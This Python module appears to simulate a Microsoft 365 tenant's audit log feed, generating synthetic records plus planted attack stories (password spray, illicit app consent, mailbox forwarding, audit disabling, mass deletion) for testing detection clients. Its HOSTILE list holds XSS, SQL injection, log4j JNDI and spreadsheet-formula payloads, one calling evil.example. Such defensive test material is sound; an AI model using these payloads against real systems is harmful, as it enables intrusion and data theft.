"""A simulated Microsoft 365 tenant: who works there, what they do, and which content blobs the
Management Activity API would announce. Pure and deterministic from a seed: a blob's records are a
function of (seed, content type, blob index), generated when asked for and never held in memory, so
the same tenant can serve a million events and be checked against its own ground truth."""
from __future__ import annotations

import json
import math
import random
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from functools import cached_property, lru_cache

ORG_ID = "5b1d3c2a-7e4f-4a8b-9c6d-2f0e1a3b4c5d"
DOMAIN = "contoso.com"
ATTACKER_IP = "198.51.100.9"
# a large office egress pool (NAT per floor and site), so no single office address dwarfs the rest
OFFICE_IPS = [f"203.0.113.{n}" for n in range(10, 70)] + ["2001:db8:10::1", "2001:db8:10::2"]
VPN_IPS = [f"203.0.113.{n}" for n in range(200, 210)]
TRAVEL_IPS = ["198.51.100.77", "198.51.100.140", "2001:db8:77::15"]
# Where the simulated addresses are (documentation ranges belong to no real network): the DEMO tenant's networks
# file, in the format IP_NETWORKS_FILE reads. Everyone works from the Netherlands; the stories come from elsewhere.
NETWORKS = """network,country,owner,asn,lat,lon
203.0.113.0/25,NL,Contoso Amsterdam office (simulated),64500,52.37,4.90
2001:db8:10::/48,NL,Contoso Amsterdam office (simulated),64500,52.37,4.90
203.0.113.192/27,NL,Contoso VPN (simulated),64500,52.37,4.90
192.0.2.0/24,NL,Example Broadband (simulated),64501,52.09,5.12
2001:db8:cafe::/48,NL,Example Broadband (simulated),64501,52.09,5.12
198.51.100.64/27,NL,Example Hotel Wi-Fi (simulated),64502,51.92,4.48
198.51.100.128/27,NL,Example Mobile NL (simulated),64503,51.44,5.47
2001:db8:77::/48,NL,Example Mobile NL (simulated),64503,51.44,5.47
198.51.100.0/28,RO,Example Cloud Hosting (simulated),64510,44.43,26.10
198.51.100.32/28,BR,Example Broadband BR (simulated),64520,-23.55,-46.63
198.51.100.48/28,US,Example Cloud Hosting US (simulated),64511,39.04,-77.49
198.51.100.192/27,US,Example Mobile US (simulated),64530,40.71,-74.01
"""
TRAVELLER_IP = "198.51.100.200"  # story 3: an admin's account, 40 minutes after a sign-in in Amsterdam
APP_IP = "198.51.100.50"  # story 2: the consented application reading mail
GUESSER_IPS = ("198.51.100.33", "198.51.100.34")  # story 4: guessing one person's password

# Share of the week's events per content type.
SHARES = {"Audit.AzureActiveDirectory": 0.25, "Audit.Exchange": 0.35, "Audit.SharePoint": 0.30,
          "Audit.General": 0.09, "DLP.All": 0.01}
CONTENT_TYPES = tuple(SHARES)  # what this service serves: the Management Activity API's five content types
_CT_CODE = {ct: ct.split(".")[-1].lower() for ct in CONTENT_TYPES}
_CODE_CT = {code: ct for ct, code in _CT_CODE.items()}

FIRST = ["Adele", "Alex", "Allan", "Ben", "Christie", "Debra", "Diego", "Emily", "Enrico", "Grady", "Henrietta",
         "Isaiah", "Johanna", "Joni", "Lee", "Lidia", "Lynne", "Megan", "Miriam", "Nestor", "Patti", "Pradeep",
         "Raul", "Sanjay", "Zrinka", "Irvin", "Lena", "Omar", "Yuki", "Ana"]
LAST = ["Vance", "Wilber", "Deyoung", "Bowen", "Cline", "Berg", "Siciliani", "Braun", "Cameron", "Archie",
        "Hofer", "Lambert", "Lauer", "Sherman", "Gu", "Holloway", "Robbins", "Lee", "Nowak", "Haidari"]
DEPARTMENTS = ["Finance", "Sales", "Marketing", "Engineering", "Legal", "HR", "IT", "Operations"]
FILE_WORDS = ["Budget", "Forecast", "Roadmap", "Contract", "Payroll", "Minutes", "Proposal", "Invoice",
              "Onboarding", "Strategy", "Pricing", "Report"]
FILE_EXT = [".docx", ".xlsx", ".pptx", ".pdf", ".csv", ".txt"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36 Edg/131.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.18025; Pro)",
    "Microsoft SkyDriveSync 24.201.1006.0003 ship; Windows NT 10.0 (19045)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
# Attacker-chosen text, as it turns up in real audit data: it must always be shown as text.
HOSTILE = [
    "<img src=x onerror=alert(1)>.docx",
    '"><script>alert(document.domain)</script>.pdf',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/x","Click me").xlsx',
    "invoice\u202eslx.exe",
    "{{7*7}} ${jndi:ldap://x/a} '; DROP TABLE events;--.txt",
]
APPS = {"Office 365 Exchange Online": "00000002-0000-0ff1-ce00-000000000000",
        "Microsoft Teams": "1fec8e78-bce4-4aaf-ab1b-5451cc387264",
        "Office 365 SharePoint Online": "00000003-0000-0ff1-ce00-000000000000",
        "Microsoft Office": "d3590ed6-52b3-4102-aeff-aad2292ab01c"}


@dataclass(frozen=True)
class User:
    upn: str  # as Entra ID spells it, mixed case
    user_type: int  # 0 regular, 2 admin, 10 guest (as the API reports it), 4 system
    puid: str
    department: str
    home_ip: str
    user_agent: str

    @property
    def mail_upn(self) -> str:
        """Exchange often reports the same account in lower case: the reason for the case hint."""
        return self.upn.lower()


@dataclass(frozen=True)
class Blob:
    content_type: str
    index: int
    created: datetime
    expiration: datetime
    slot_start: datetime  # the records' times fall in [slot_start, slot_start + interval)
    listed_from: datetime  # some blobs are announced a while after their contentCreated

    @property
    def content_id(self) -> str:
        # opaque and full of '$', like the real ones
        stamp = self.created.strftime("%Y%m%d%H%M%S%f")
        return f"{stamp}${stamp}${_CT_CODE[self.content_type]}${self.index}$emea0026"


def parse_content_id(content_id: str) -> tuple[str, int] | None:
    parts = content_id.split("$")
    if len(parts) != 5 or parts[2] not in _CODE_CT or not parts[3].isdigit():
        return None
    return _CODE_CT[parts[2]], int(parts[3])


def _weekly_weight(moment: datetime) -> float:
    """Activity by hour: busy on weekday working hours, quiet at night and at weekends."""
    hour = moment.hour + moment.minute / 60
    day = 0.35 + math.exp(-((hour - 13.0) ** 2) / 12.0)
    return day * (0.25 if moment.weekday() >= 5 else 1.0)


class SimulatedTenant:
    def __init__(self, start: datetime, seed: int = 7, events_per_week: int = 30_000, blob_minutes: int = 60,
                 late_blob_rate: float = 0.04, duplicate_rate: float = 0.05, expired_blobs: int = 2,
                 late_listing_rate: float = 0.05, hostile: bool = True, stories: bool = True):
        self.start = start.astimezone(timezone.utc).replace(second=0, microsecond=0)
        self.seed = seed
        self.events_per_week = events_per_week
        self.interval = timedelta(minutes=blob_minutes)
        self.late_blob_rate = late_blob_rate
        self.duplicate_rate = duplicate_rate
        self.late_listing_rate = late_listing_rate
        self.hostile = hostile
        self.stories = stories  # off: only the organization's everyday activity (what leads must stay quiet on)
        self._warm: dict[tuple[str, int], bytes] = {}
        slots = int(timedelta(days=7) / self.interval)
        self._slots_per_week = slots
        self._weight_sum = sum(_weekly_weight(self.start + i * self.interval) for i in range(slots))
        rng = random.Random(f"{seed}:expired")
        # A few blobs early in the week whose content expired before anyone fetched it (AF20051).
        self.expired = {(rng.choice(["Audit.SharePoint", "Audit.Exchange"]), rng.randrange(4, max(5, slots // 3)))
                        for _ in range(expired_blobs)}

    # --- the organization ---------------------------------------------------------------------
    @cached_property
    def users(self) -> list[User]:
        rng = random.Random(f"{self.seed}:users")
        users, seen = [], set()
        while len(users) < 200:
            first, last = rng.choice(FIRST), rng.choice(LAST)
            style = rng.random()
            if style < 0.6:
                local = f"{first}.{last}"
            elif style < 0.8:
                local = f"{first}{last[0]}"
            else:
                local = f"{first[0]}{last}".upper() if style > 0.95 else f"{first.lower()}.{last}"
            if local.lower() in seen:
                continue
            seen.add(local.lower())
            user_type = 2 if len(users) < 8 else 0  # the first eight are administrators
            home = f"192.0.2.{len(users) + 1}" if len(users) % 5 else f"2001:db8:cafe::{len(users) + 1:x}"
            users.append(User(f"{local}@{DOMAIN}", user_type, f"1003{rng.getrandbits(48):012X}",
                              rng.choice(DEPARTMENTS), home, rng.choice(USER_AGENTS)))
        for guest in ("alex_fabrikam.com#EXT#@contoso.onmicrosoft.com", "j.doe_northwind.com#EXT#@contoso.onmicrosoft.com"):
            users.append(User(guest, 10, f"1003{rng.getrandbits(48):012X}", "Guests", TRAVEL_IPS[0], USER_AGENTS[0]))
        users.append(User(f"svc-backup@{DOMAIN}", 0, "10030000SVC00001", "IT", OFFICE_IPS[0], "BackupAgent/4.2"))
        return users

    @property
    def admins(self) -> list[User]:
        return [u for u in self.users if u.user_type == 2]

    @property
    def victim(self) -> User:
        return self.admins[3]

    # --- the blob timeline --------------------------------------------------------------------
    def blob(self, content_type: str, index: int) -> Blob:
        rng = random.Random(f"{self.seed}:{content_type}:{index}:meta")
        created = self.start + index * self.interval + timedelta(seconds=rng.randrange(int(self.interval.total_seconds() // 2)))
        late = rng.random() < self.late_blob_rate  # content that turns up hours after its events
        listed_from = created + timedelta(minutes=40 if rng.random() < self.late_listing_rate else 0)
        slot_start = self.start + (index - 2) * self.interval
        if late:
            slot_start -= rng.randint(3, 10) * self.interval
        expiration = created + timedelta(days=7, hours=12)
        if (content_type, index) in self.expired:
            expiration = created + timedelta(minutes=30)
        return Blob(content_type, index, created, expiration, slot_start, listed_from)

    def blobs_created(self, content_type: str, start: datetime, end: datetime, now: datetime) -> list[Blob]:
        """Blobs with start <= contentCreated < end that are announced by `now`, in contentCreated order."""
        first = max(0, int((start - self.start) / self.interval) - 1)
        last = int((min(end, now) - self.start) / self.interval) + 1
        found = []
        for index in range(first, last + 1):
            blob = self.blob(content_type, index)
            if start <= blob.created < end and blob.listed_from <= now:
                found.append(blob)
        return found

    # --- the records --------------------------------------------------------------------------
    def _count(self, blob: Blob, rng: random.Random) -> int:
        weight = _weekly_weight(blob.slot_start)
        expected = self.events_per_week * SHARES[blob.content_type] * weight / self._weight_sum
        return max(0, int(expected * (0.8 + 0.4 * rng.random()) + rng.random()))

    def records(self, content_type: str, index: int) -> list[dict]:
        """The records in one blob: background activity, planted stories, and now and then a record
        that another blob holds too (the API duplicates by design). Not in time order."""
        blob = self.blob(content_type, index)
        records = self._own_records(blob)
        rng = random.Random(f"{self.seed}:{content_type}:{index}:dup")
        if index > 0 and rng.random() < self.duplicate_rate:
            previous = self._own_records(self.blob(content_type, index - 1))
            records.extend(previous[: rng.randint(1, 3)])
        rng.shuffle(records)
        return records

    def blob_json(self, content_type: str, index: int) -> bytes:
        warm = self._warm.get((content_type, index))
        return warm if warm is not None else _blob_json(self, content_type, index)

    def warm(self, now: datetime) -> int:
        """Generate every blob announced by `now` up front and keep it (benchmarks: so that the fake
        service's own generating does not compete with the client being measured). Returns bytes held."""
        for content_type in CONTENT_TYPES:
            for blob in self.blobs_created(content_type, self.start - self.interval, now, now):
                self._warm[(content_type, blob.index)] = _blob_json(self, content_type, blob.index)
        return sum(len(v) for v in self._warm.values())

    def _own_records(self, blob: Blob) -> list[dict]:
        rng = random.Random(f"{self.seed}:{blob.content_type}:{blob.index}")
        make = _GENERATORS[blob.content_type]
        span = self.interval.total_seconds()
        records = []
        for _ in range(self._count(blob, rng)):
            when = blob.slot_start + timedelta(seconds=rng.random() * span)
            records.append(make(self, rng, when))
        if self.stories:
            records.extend(self.story_records(blob.content_type).get(blob.index, []))
        return records

    def history(self, start: datetime, end: datetime, now: datetime) -> list[dict]:
        """Every record with start <= CreationTime < end that exists by `now`, once each, oldest first: what
        Purview's audit search holds (Microsoft Graph's audit log query) — the same records the feed delivers for
        the last 7 days, and the organization's earlier history before the feed's first blob."""
        # a blob holds records from before its own slot, up to 12 slots before when it is late (see blob())
        first = int((start - self.start) / self.interval) - 1
        last = int((end - self.start) / self.interval) + 13
        low, high = start.strftime("%Y-%m-%dT%H:%M:%S"), min(end, now).strftime("%Y-%m-%dT%H:%M:%S")
        found: dict[str, dict] = {}
        for content_type in CONTENT_TYPES:
            for index in range(first, last + 1):
                for record in self._own_records(self.blob(content_type, index)):
                    if low <= record["CreationTime"] < high:
                        found.setdefault(record["Id"], record)
        return sorted(found.values(), key=lambda r: (r["CreationTime"], r["Id"]))

    # --- ground truth, for tests and for the curious ---------------------------------------------
    def expected_ids(self, content_type: str, start: datetime, end: datetime, now: datetime) -> tuple[set[str], set[str]]:
        """(ids a faithful client stores, content ids it must record as lost) for blobs created in [start, end)."""
        ids, lost = set(), set()
        for blob in self.blobs_created(content_type, start, end, now):
            if blob.expiration <= now:
                lost.add(blob.content_id)
            else:
                ids.update(r["Id"] for r in self.records(content_type, blob.index))
        return ids, lost

    # --- planted stories ----------------------------------------------------------------------
    @cached_property
    def _stories(self) -> dict[str, dict[int, list[dict]]]:
        rng = random.Random(f"{self.seed}:story")
        by_type: dict[str, dict[int, list[dict]]] = {ct: {} for ct in CONTENT_TYPES}

        def place(content_type: str, record: dict) -> None:
            moment = datetime.fromisoformat(record["CreationTime"]).replace(tzinfo=timezone.utc)
            index = int((moment - self.start) / self.interval) + 2
            by_type[content_type].setdefault(index, []).append(record)

        # 1. Password spray from one IP at 03:12 on the fourth day, one success, then a foothold.
        spray = self.start.replace(hour=3, minute=12) + timedelta(days=3)
        targets = rng.sample(self.users[:200], 40)
        if self.victim not in targets:
            targets[-1] = self.victim
        for n, user in enumerate(targets):
            for attempt in range(rng.randint(3, 5)):
                when = spray + timedelta(seconds=n * 20 + attempt * 3 + rng.random() * 2)
                place("Audit.AzureActiveDirectory",
                      _signin(rng, when, user, ATTACKER_IP, "python-requests/2.31.0", failed=True))
        victim = self.victim
        place("Audit.AzureActiveDirectory",
              _signin(rng, spray + timedelta(minutes=17), victim, ATTACKER_IP, "python-requests/2.31.0", failed=False))
        place("Audit.Exchange", _inbox_rule(rng, spray + timedelta(minutes=29), victim, ATTACKER_IP))
        for n in range(300):
            when = spray + timedelta(minutes=33, seconds=n * 2.6)
            name = f"{rng.choice(FILE_WORDS)} {rng.choice(['FY25', 'FY26', 'Q3', 'Q4', 'Confidential'])}{rng.choice(FILE_EXT)}"
            place("Audit.SharePoint", _file_op(rng, when, victim, ATTACKER_IP, "python-requests/2.31.0",
                                               "FileDownloaded", "Finance", name))
        guest = self.users[200]
        place("Audit.AzureActiveDirectory", _role_add(rng, spray + timedelta(minutes=52), victim, guest,
                                                      "Global Administrator", ATTACKER_IP))
        # 2. An admin consents, for the whole tenant, to an app nobody knows; a secret is added to it; it reads mail.
        admin, when = self.admins[1], self.start.replace(hour=14, minute=5) + timedelta(days=4)
        app = ("PDF Converter Online", "7f1e0c55-8a1b-4d7e-9b3a-6c2d1e0f9a44")
        place("Audit.AzureActiveDirectory", _app_change(rng, when, admin, OFFICE_IPS[5], "Consent to application.",
                                                        app, [("ConsentContext.IsAdminConsent", "True"),
                                                              ("ConsentAction.Permissions", "Mail.Read Files.Read.All "
                                                                                            "offline_access")]))
        place("Audit.AzureActiveDirectory", _app_change(rng, when + timedelta(minutes=3), admin, OFFICE_IPS[5],
                                                        "Add service principal credentials.", app,
                                                        [("KeyDescription", "[KeyType=Password, KeyUsage=Verify]")]))
        for n in range(60):
            place("Audit.Exchange", _app_mail_read(rng, when + timedelta(minutes=10 + n * 4), app,
                                                   rng.choice(self.users[:40]), APP_IP))
        # 3. An admin's account signs in from New York 40 minutes after Amsterdam, adds its own phone, forwards the
        #    CFO's mailbox out and turns the audit log off.
        admin, when = self.admins[5], self.start.replace(hour=8, minute=55) + timedelta(days=5)
        cfo = self.users[20]
        place("Audit.AzureActiveDirectory", _signin(rng, when, admin, OFFICE_IPS[7], admin.user_agent, failed=False))
        later = when + timedelta(minutes=40)
        place("Audit.AzureActiveDirectory", _signin(rng, later, admin, TRAVELLER_IP, USER_AGENTS[4], failed=False))
        security = _base(rng, later + timedelta(minutes=2), admin, "User registered security info", 8,
                         "AzureActiveDirectory")
        security.update({"ResultStatus": "Success", "ClientIP": TRAVELLER_IP, "ObjectId": admin.upn,
                         "Target": [{"ID": admin.upn, "Type": 5}],
                         "ModifiedProperties": [{"Name": "StrongAuthenticationMethod", "NewValue": "PhoneAppOTP",
                                                 "OldValue": ""}]})
        place("Audit.AzureActiveDirectory", security)
        forward = [("Identity", cfo.mail_upn), ("ForwardingSmtpAddress", "smtp:payments@fabrikam-billing.example"),
                   ("DeliverToMailboxAndForward", "True")]
        place("Audit.Exchange", _exchange_admin(rng, later + timedelta(minutes=6), admin, TRAVELLER_IP, "Set-Mailbox",
                                                cfo.mail_upn, forward))
        place("Audit.Exchange", _exchange_admin(rng, later + timedelta(minutes=9), admin, TRAVELLER_IP,
                                                "Set-AdminAuditLogConfig", "Admin Audit Log Settings",
                                                [("UnifiedAuditLogIngestionEnabled", "False")]))
        # 4. Someone guesses one person's password from two addresses late at night (no success), and a leaver
        #    deletes four hundred files from the Engineering site in twenty-five minutes.
        guessed, when = self.users[70], self.start.replace(hour=22, minute=10) + timedelta(days=5)
        for n in range(32):
            place("Audit.AzureActiveDirectory", _signin(rng, when + timedelta(seconds=n * 75), guessed,
                                                        GUESSER_IPS[n % 2], "Mozilla/5.0", failed=True))
        leaver, when = self.users[60], self.start.replace(hour=16, minute=20) + timedelta(days=6)
        for n in range(400):
            place("Audit.SharePoint", _file_op(rng, when + timedelta(seconds=n * 3.7), leaver, OFFICE_IPS[9],
                                               leaver.user_agent, "FileDeleted", "Engineering",
                                               f"{rng.choice(FILE_WORDS)} {n:03d}{rng.choice(FILE_EXT)}"))
        # 5. Hostile strings, always present so a demo and the tests can see them rendered as text.
        if self.hostile:
            author = self.users[12]
            for n, text in enumerate(HOSTILE):
                when = self.start + timedelta(days=1, hours=10, minutes=n * 7)
                record = _file_op(rng, when, author, OFFICE_IPS[3], HOSTILE[2] if n % 2 else author.user_agent,
                                  "FileAccessed", author.department, text)
                place("Audit.SharePoint", record)
        return by_type

    def story_records(self, content_type: str) -> dict[int, list[dict]]:
        return self._stories[content_type]


@lru_cache(maxsize=32)
def _blob_json(tenant: SimulatedTenant, content_type: str, index: int) -> bytes:
    return json.dumps(tenant.records(content_type, index), ensure_ascii=False, separators=(",", ":")).encode()


# --- record makers: one per content type, each returning a record as the API would ----------------
def _uid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _stamp(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S")  # zone-less UTC, as the API sends it


def _where(tenant: SimulatedTenant, rng: random.Random, user: User, when: datetime) -> str:
    at_work = when.weekday() < 5 and 8 <= when.hour < 18
    roll = rng.random()
    if at_work and roll < 0.75:
        return rng.choice(OFFICE_IPS)
    if roll < 0.93:
        return user.home_ip
    if roll < 0.995:
        return rng.choice(VPN_IPS)
    return rng.choice(TRAVEL_IPS)


def _with_port(rng: random.Random, ip: str) -> str:
    """Some workloads report the client's port too."""
    if rng.random() < 0.15:
        return f"[{ip}]:{rng.randint(1024, 65535)}" if ":" in ip else f"{ip}:{rng.randint(1024, 65535)}"
    return ip


def _base(rng: random.Random, when: datetime, user: User, operation: str, record_type: int, workload: str) -> dict:
    return {"CreationTime": _stamp(when), "Id": _uid(rng), "Operation": operation, "OrganizationId": ORG_ID,
            "RecordType": record_type, "UserKey": user.puid, "UserType": user.user_type, "Version": 1,
            "Workload": workload, "UserId": user.upn}


def _signin(rng: random.Random, when: datetime, user: User, ip: str, agent: str, failed: bool) -> dict:
    record = _base(rng, when, user, "UserLoginFailed" if failed else "UserLoggedIn", 15, "AzureActiveDirectory")
    record.update({
        "ResultStatus": "Failed" if failed else "Success", "ClientIP": ip, "ActorIpAddress": ip,
        "ObjectId": "00000003-0000-0000-c000-000000000000", "ApplicationId": APPS["Microsoft Office"],
        "ExtendedProperties": [
            {"Name": "ResultStatusDetail", "Value": "Invalid username or password" if failed else "Success"},
            {"Name": "UserAgent", "Value": agent}, {"Name": "RequestType", "Value": "OAuth2:Token"}],
        "Actor": [{"ID": user.upn, "Type": 5}], "ActorContextId": ORG_ID,
        "ErrorCode": "50126" if failed else "0",
    })
    if failed:
        record["LogonError"] = "InvalidUserNameOrPassword"
    return record


def _inbox_rule(rng: random.Random, when: datetime, user: User, ip: str, hiding: bool = True) -> dict:
    """The attacker's rule hides replies about invoices; a person's own sorts newsletters into a folder."""
    record = _base(rng, when, user, "New-InboxRule", 1, "Exchange")
    name, parameters = ("..", [{"Name": "SubjectContainsWords", "Value": "invoice;payment"},
                               {"Name": "MoveToFolder", "Value": "RSS Subscriptions"},
                               {"Name": "MarkAsRead", "Value": "True"}]) if hiding else \
        ("Newsletters", [{"Name": "From", "Value": "news@example.com"},
                         {"Name": "MoveToFolder", "Value": "Newsletters"}])
    record.update({
        "ResultStatus": "True", "ClientIP": f"{ip}:{rng.randint(1024, 65535)}", "ObjectId": f"{user.upn}\\{name}",
        "Parameters": [{"Name": "Name", "Value": name}, *parameters],
        "ExternalAccess": False, "OrganizationName": "contoso.onmicrosoft.com", "OriginatingServer": "AM0PR01MB1234",
    })
    return record


def _role_add(rng: random.Random, when: datetime, actor: User, target: User, role: str, ip: str) -> dict:
    record = _base(rng, when, actor, "Add member to role.", 8, "AzureActiveDirectory")
    record.update({
        "ResultStatus": "Success", "ClientIP": ip, "ObjectId": target.upn,
        "Actor": [{"ID": actor.upn, "Type": 5}], "Target": [{"ID": target.upn, "Type": 5}],
        "ModifiedProperties": [{"Name": "Role.DisplayName", "NewValue": role, "OldValue": ""}],
    })
    return record


def _app_change(rng: random.Random, when: datetime, actor: User, ip: str, operation: str, app: tuple[str, str],
                properties: list[tuple[str, str]]) -> dict:
    record = _base(rng, when, actor, operation, 8, "AzureActiveDirectory")
    record.update({
        "ResultStatus": "Success", "ClientIP": ip, "ObjectId": app[0], "Actor": [{"ID": actor.upn, "Type": 5}],
        "Target": [{"ID": app[1], "Type": 2}, {"ID": app[0], "Type": 1}],
        "ModifiedProperties": [{"Name": name, "NewValue": value, "OldValue": ""} for name, value in properties],
    })
    return record


def _app_mail_read(rng: random.Random, when: datetime, app: tuple[str, str], owner: User, ip: str) -> dict:
    record = _base(rng, when, owner, "MailItemsAccessed", 50, "Exchange")
    record.update({"UserId": app[1], "UserType": 5, "ResultStatus": "Succeeded", "ClientIP": ip, "AppId": app[1],
                   "ClientAppId": app[1], "MailboxOwnerUPN": owner.mail_upn, "LogonType": 0,
                   "OperationProperties": [{"Name": "MailAccessType", "Value": "Sync"}]})
    return record


def _exchange_admin(rng: random.Random, when: datetime, actor: User, ip: str, cmdlet: str, object_id: str,
                    parameters: list[tuple[str, str]]) -> dict:
    record = _base(rng, when, actor, cmdlet, 1, "Exchange")
    record.update({"ResultStatus": "True", "ClientIP": f"{ip}:{rng.randint(1024, 65535)}", "ObjectId": object_id,
                   "Parameters": [{"Name": name, "Value": value} for name, value in parameters],
                   "ExternalAccess": False, "OrganizationName": "contoso.onmicrosoft.com"})
    return record


def _file_op(rng: random.Random, when: datetime, user: User, ip: str, agent: str, operation: str,
             site: str, file_name: str) -> dict:
    onedrive = site == "personal"
    site_url = (f"https://contoso-my.sharepoint.com/personal/{user.upn.split('@')[0].lower().replace('.', '_')}_contoso_com/"
                if onedrive else f"https://contoso.sharepoint.com/sites/{site}/")
    folder = "Documents" if onedrive else "Shared Documents"
    record = _base(rng, when, user, operation, 7 if onedrive else 6, "OneDrive" if onedrive else "SharePoint")
    record.update({
        "ClientIP": _with_port(rng, ip), "ObjectId": f"{site_url}{folder}/{file_name}", "ItemType": "File",
        "UserAgent": agent, "SiteUrl": site_url, "SourceFileName": file_name, "SourceRelativeUrl": folder,
        "SourceFileExtension": file_name.rsplit(".", 1)[-1] if "." in file_name else "",
    })
    return record


def _pick_user(tenant: SimulatedTenant, rng: random.Random) -> User:
    # a few people do most of the work, as in any organization
    users = tenant.users
    return users[min(len(users) - 1, int(rng.paretovariate(1.2)) - 1 + rng.randrange(0, len(users) // 2))]


def _aad(tenant: SimulatedTenant, rng: random.Random, when: datetime) -> dict:
    user = _pick_user(tenant, rng)
    ip = _where(tenant, rng, user, when)
    roll = rng.random()
    if roll < 0.015 and user.user_type == 2:
        target = rng.choice(tenant.users)
        return _role_add(rng, when, user, target, rng.choice(["User Administrator", "Helpdesk Administrator"]), ip)
    if roll < 0.03:
        record = _base(rng, when, rng.choice(tenant.admins), rng.choice(["Update user.", "Reset user password.",
                                                                         "Add user."]), 8, "AzureActiveDirectory")
        record.update({"ResultStatus": "Success", "ObjectId": user.upn, "ClientIP": ip,
                       "Target": [{"ID": user.upn, "Type": 5}]})
        return record
    return _signin(rng, when, user, ip, user.user_agent, failed=rng.random() < 0.06)


def _exchange(tenant: SimulatedTenant, rng: random.Random, when: datetime) -> dict:
    user = _pick_user(tenant, rng)
    ip = _where(tenant, rng, user, when)
    roll = rng.random()
    if roll < 0.005:
        return _inbox_rule(rng, when, user, ip, hiding=False)
    operation, record_type = ("MailItemsAccessed", 50) if roll < 0.45 else ("Send", 2) if roll < 0.85 else \
        ("MoveToDeletedItems", 3) if roll < 0.97 else ("SoftDelete", 3)
    record = _base(rng, when, user, operation, record_type, "Exchange")
    record["UserId"] = user.mail_upn
    subject = rng.choice(HOSTILE) if tenant.hostile and rng.random() < 0.002 else \
        f"{rng.choice(FILE_WORDS)} {rng.choice(['update', 'review', 'follow-up', 'draft'])}"
    record.update({
        "ResultStatus": "Succeeded", "ClientIPAddress": _with_port(rng, ip), "ClientIP": ip,
        "ClientInfoString": rng.choice(["Client=OWA;Mozilla/5.0", "Client=MSExchangeRPC", "Client=REST;Outlook"]),
        "LogonType": 0, "MailboxOwnerUPN": user.mail_upn, "MailboxGuid": _uid(rng),
        "Item": {"ParentFolder": {"Path": "\\Sent Items" if operation == "Send" else "\\Inbox"},
                 "SizeInBytes": rng.randint(2_000, 4_000_000), "Subject": subject},
    })
    return record


def _sharepoint(tenant: SimulatedTenant, rng: random.Random, when: datetime) -> dict:
    user = _pick_user(tenant, rng)
    ip = _where(tenant, rng, user, when)
    roll = rng.random()
    operation = "FileAccessed" if roll < 0.5 else "FileModified" if roll < 0.65 else "FilePreviewed" if roll < 0.75 \
        else "FileDownloaded" if roll < 0.87 else "FileUploaded" if roll < 0.95 else "SharingSet" if roll < 0.99 \
        else "AnonymousLinkCreated"
    site = "personal" if rng.random() < 0.3 else user.department
    if tenant.hostile and rng.random() < 0.001:
        name = rng.choice(HOSTILE)
    else:
        name = f"{rng.choice(FILE_WORDS)} {rng.choice(['2025', '2026', 'v2', 'final', 'draft'])}{rng.choice(FILE_EXT)}"
    agent = HOSTILE[2] if tenant.hostile and rng.random() < 0.0005 else user.user_agent
    record = _file_op(rng, when, user, ip, agent, operation, site, name)
    if operation in ("SharingSet", "AnonymousLinkCreated"):
        record["RecordType"] = 14
    return record


def _general(tenant: SimulatedTenant, rng: random.Random, when: datetime) -> dict:
    user = _pick_user(tenant, rng)
    ip = _where(tenant, rng, user, when)
    roll = rng.random()
    if roll < 0.7:
        record = _base(rng, when, user, rng.choice(["MessageSent", "TeamsSessionStarted", "MemberAdded",
                                                    "ChannelAdded", "MeetingParticipantDetail"]), 25, "MicrosoftTeams")
        record.update({"ClientIP": ip, "TeamName": f"{user.department} team", "ObjectId": f"{user.department} team"})
    elif roll < 0.9:
        record = _base(rng, when, user, rng.choice(["ViewReport", "ExportReport", "ViewDashboard"]), 20, "PowerBI")
        record.update({"ClientIP": ip, "ItemName": f"{user.department} KPIs", "UserAgent": user.user_agent})
    elif roll < 0.97:
        record = _base(rng, when, user, "CopilotInteraction", 261, "Copilot")
        record.update({"ClientIP": ip, "AppHost": rng.choice(["Word", "Teams", "Outlook"])})
    else:  # a record type newer than any published list: normal, not an error
        record = _base(rng, when, user, "QuantumWidgetOpened", 9001, "FutureService")
        record.update({"ClientIP": ip})
    return record


def _dlp(tenant: SimulatedTenant, rng: random.Random, when: datetime) -> dict:
    user = _pick_user(tenant, rng)
    sharepoint = rng.random() < 0.5
    record = _base(rng, when, user, "DlpRuleMatch", 11 if sharepoint else 13, "SharePoint" if sharepoint else "Exchange")
    record.update({
        "UserId": user.upn if sharepoint else user.mail_upn, "ObjectId": f"{rng.choice(FILE_WORDS)}.xlsx",
        "ClientIP": _where(tenant, rng, user, when),
        "PolicyDetails": [{"PolicyId": _uid(rng), "PolicyName": "U.S. Financial Data",
                           "Rules": [{"RuleName": "Credit card numbers", "Severity": rng.choice(["Low", "High"]),
                                      "Actions": ["NotifyUser"]}]}],
        "SensitiveInfoDetectionIsIncluded": True,
    })
    return record


_GENERATORS = {"Audit.AzureActiveDirectory": _aad, "Audit.Exchange": _exchange, "Audit.SharePoint": _sharepoint,
               "Audit.General": _general, "DLP.All": _dlp}
